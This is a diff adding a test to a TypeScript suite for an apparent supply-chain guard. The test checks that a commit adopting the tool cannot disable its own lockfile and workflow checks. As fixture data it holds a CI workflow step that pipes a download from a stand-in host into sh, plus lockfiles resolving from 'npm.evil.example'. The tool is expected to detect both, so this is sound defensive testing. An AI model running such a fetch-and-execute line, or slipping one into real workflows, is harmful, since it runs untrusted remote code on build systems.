@@ -269,6 +269,131 @@ describe("no policy on the trusted side: the change that adopts rampart cannot e
     expect(own.exitCode, own.stderr).toBe(0);
   });
 
+  // An npm v3 lockfile in app/ (its own package.json: no drift with the one init edits) holding
+  // the given packages, each `name: { resolved host, extra fields }`.
+  const appLock = (packages: Record<string, { host?: string } & Record<string, unknown>>) => {
+    const entries = Object.entries(packages).map(([name, { host = "registry.npmjs.org", ...extra }]) => [
+      `node_modules/${name}`,
+      {
+        version: "1.0.0",
+        resolved: `https://${host}/${name}/-/${name}-1.0.0.tgz`,
+        integrity: `sha512-${"A".repeat(86)}==`,
+        license: "MIT",
+        ...extra,
+      },
+    ]);
+    const dependencies = Object.fromEntries(Object.keys(packages).map((name) => [name, "1.0.0"]));
+    return {
+      "app/package.json": `${JSON.stringify({ name: "app", version: "1.0.0", dependencies }, null, 2)}\n`,
+      "app/package-lock.json": `${JSON.stringify(
+        {
+          name: "app",
+          version: "1.0.0",
+          lockfileVersion: 3,
+          requires: true,
+          packages: { "": { name: "app", version: "1.0.0", dependencies }, ...Object.fromEntries(entries) },
+        },
+        null,
+        2,
+      )}\n`,
+    };
+  };
+  const workflow =
+    "on: push\npermissions: {}\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://x.example/i.sh | sh\n";
+
+  it("pre-commit: the first policy's lockfile, workflows and hook switches do not apply to the commit adopting it", async () => {
+    const evil = appLock({ "left-pad": { host: "npm.evil.example" } });
+    const cases: Array<[string, string, Record<string, string>, string]> = [
+      ["allowedHosts", "lockfile:\n  allowedHosts: [npm.evil.example]\n", evil, "lockfile/disallowed-host"],
+      ["a rule off", "lockfile:\n  rules:\n    lockfile/disallowed-host: off\n", evil, "lockfile/disallowed-host"],
+      [
+        "the registry in a staged .npmrc",
+        "",
+        { ...evil, "app/.npmrc": "registry=https://npm.evil.example/\n" },
+        "lockfile/disallowed-host",
+      ],
+      ["the lockfile hook off", "hooks:\n  preCommit:\n    lockfile: false\n", evil, "lockfile/disallowed-host"],
+      [
+        "an audit off",
+        "workflows:\n  audits:\n    curl-pipe-shell: off\n",
+        { ".github/workflows/get.yml": workflow },
+        "workflows/curl-pipe-shell",
+      ],
+      [
+        "the workflows hook off",
+        "hooks:\n  preCommit:\n    workflows: false\n",
+        { ".github/workflows/get.yml": workflow },
+        "workflows/curl-pipe-shell",
+      ],
+    ];
+    for (const [what, section, files, finding] of cases) {
+      const repo = await initRepo("recommended");
+      // POLICY's own hooks section is replaced when the case has one.
+      const policy = section.startsWith("hooks:")
+        ? POLICY().replace("hooks:\n  preCommit:\n", `${section}`)
+        : POLICY(section);
+      repo.write(".rampart/config.yaml", policy);
+      for (const [file, text] of Object.entries(files)) repo.write(file, text);
+      await repo.git(["add", "-A"]);
+      const r = await repo.gitResult(["commit", "-m", "chore: adopt rampart"]);
+      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
+      expect(r.stdout + r.stderr, what).toContain(finding);
+    }
+    // What HEAD's lockfile already held is accepted (init's accepted state, CI's rule); what the
+    // adopting commit adds is judged.
+    const held = await initRepo(
+      "recommended",
+      appLock({ esbuild: { hasInstallScript: true, host: "npm.corp.example" } }),
+    );
+    held.write(".rampart/config.yaml", POLICY("lockfile:\n  allowInstallScripts: [left-pad]\n"));
+    for (const [file, text] of Object.entries(
+      appLock({
+        esbuild: { hasInstallScript: true, host: "npm.corp.example" },
+        "left-pad": { hasInstallScript: true },
+      }),
+    ))
+      held.write(file, text);
+    await held.git(["add", "-A"]);
+    const added = await held.gitResult(["commit", "-m", "chore: adopt rampart"]);
+    expect(added.exitCode).not.toBe(0);
+    expect(added.stdout + added.stderr).toMatch(/left-pad@1\.0\.0 runs an install script/);
+    expect(added.stdout + added.stderr).not.toMatch(/esbuild@1\.0\.0 runs an install script|npm\.corp\.example/);
+    // Another error HEAD's lockfile held is a warning for that package only (CI's rule, one
+    // implementation: lockfile's acceptedAt): an entry the adopting commit adds without a hash, or
+    // HEAD's entry resolved from elsewhere, is an error of the same rule.
+    const noHash = { integrity: undefined };
+    const base = await initRepo("recommended", appLock({ "left-pad": noHash }));
+    base.write(".rampart/config.yaml", POLICY());
+    const commitLock = async (packages: Parameters<typeof appLock>[0]) => {
+      for (const [file, text] of Object.entries(appLock(packages))) base.write(file, text);
+      await base.git(["add", "-A"]);
+      const r = await base.gitResult(["commit", "-m", "chore: adopt rampart"]);
+      const out = r.stdout + r.stderr;
+      // The text report: `file:line  severity  name@version has no integrity hash...  rule`.
+      const missing = [
+        ...out.matchAll(/ (error|warning) +([a-z-]+)@1\.0\.0 has no integrity hash.*lockfile\/missing-integrity/g),
+      ];
+      return { code: r.exitCode, out, missing: missing.map((m) => `${m[2]} ${m[1]}`).sort() };
+    };
+    const same = await commitLock({ "left-pad": noHash, "is-odd": noHash });
+    expect(same.code).not.toBe(0);
+    expect(same.out).toContain("lockfile/missing-integrity");
+    expect(same.missing, same.out).toEqual(["is-odd error", "left-pad warning"]);
+    const moved = await commitLock({ "left-pad": { ...noHash, host: "registry.yarnpkg.com" } });
+    expect(moved.code).not.toBe(0);
+    expect(moved.missing, moved.out).toEqual(["left-pad error"]);
+    const untouched = await commitLock({ "left-pad": noHash });
+    expect(untouched.code, untouched.out).toBe(0);
+    // A new history is judged by its own policy, as written.
+    const fresh = await initRepo("recommended");
+    await fresh.git(["checkout", "-q", "--orphan", "fresh"]);
+    fresh.write(".rampart/config.yaml", POLICY("lockfile:\n  allowedHosts: [npm.evil.example]\n"));
+    for (const [file, text] of Object.entries(evil)) fresh.write(file, text);
+    await fresh.git(["add", "-A"]);
+    const own = await fresh.gitResult(["commit", "-m", "chore: a new history"]);
+    expect(own.exitCode, own.stdout + own.stderr).toBe(0);
+  });
+
   it("pre-push: the remote has no policy; the pushed commits' first policy does not apply to their key", async () => {
     for (const policy of attempts) {
       const repo = await initRepo("recommended");
